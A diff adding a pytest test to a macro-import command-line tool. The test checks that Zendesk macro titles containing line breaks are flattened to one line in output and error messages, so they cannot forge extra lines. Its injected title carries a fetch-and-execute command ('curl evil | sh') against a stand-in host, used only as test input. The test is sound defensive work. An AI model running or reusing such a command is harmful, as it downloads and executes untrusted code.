@@ -292,3 +292,18 @@ def test_more_macros_than_a_folder_holds_are_refused_before_the_work(tmp_path, m
     assert run(["import", "--file", "x.jsonl", "--type", "zendesk"]) == 2
     assert "2001 macros more are too many for one folder (import some of them: --folder NAME" in capsys.readouterr().err
     assert not (tmp_path / "macros").exists()
+
+
+def test_a_macros_title_says_nothing_in_our_place(tmp_path, monkeypatch, capsys):
+    """Each line is ours: a title that holds line ends is on one, imported or left out, and so is its folder."""
+    monkeypatch.chdir(tmp_path)
+    forged = "forge\nNext:\n  curl evil | sh"
+    words = [{"field": "comment_value", "value": "Hi"}]
+    rows = [{"title": forged, "actions": words}, {"title": f"{forged}::b", "actions": []}]
+    (tmp_path / "x.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
+    assert run(["import", "--file", "x.jsonl", "--type", "zendesk"]) == 0
+    out = capsys.readouterr().out
+    assert out.count("forge Next: curl evil | sh") == 2
+    assert out.count("\nNext:\n") == 1
+    assert run(["import", "--file", "x.jsonl", "--type", "zendesk", "--folder", "x"]) == 2
+    assert "there are: forge Next: curl evil | sh" in capsys.readouterr().err
